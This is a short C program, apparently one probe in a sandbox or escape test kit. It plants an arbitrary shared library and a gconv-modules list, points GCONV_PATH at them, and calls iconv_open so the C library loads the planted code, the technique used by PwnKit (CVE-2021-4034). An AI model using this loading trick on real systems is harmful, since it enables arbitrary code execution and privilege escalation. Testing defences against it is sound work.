// tries: to have the C library load a converter of the attacker's, named by GCONV_PATH
// works: iconv_open loads what the list in that folder names
// see: CVE-2021-4034 (PwnKit) runs its code so; iconv(1)
// goal: run
#include "../kit.h"

#include <iconv.h>

int main(void)
{
	int fd = MUST(open(join(env("WORK"), "/escape.so"), O_WRONLY | O_CREAT, 0755));

	copy_to(env("PAYLOAD_LIBRARY"), fd);
	close(fd);
	fd = MUST(open(join(env("WORK"), "/gconv-modules"), O_WRONLY | O_CREAT, 0644));
	MUST(dprintf(fd, "module ESCAPE// INTERNAL escape 1\n"));
	close(fd);
	setenv("GCONV_PATH", env("WORK"), 1);
	iconv_open("UTF-8", "ESCAPE//");
	return 0;
}
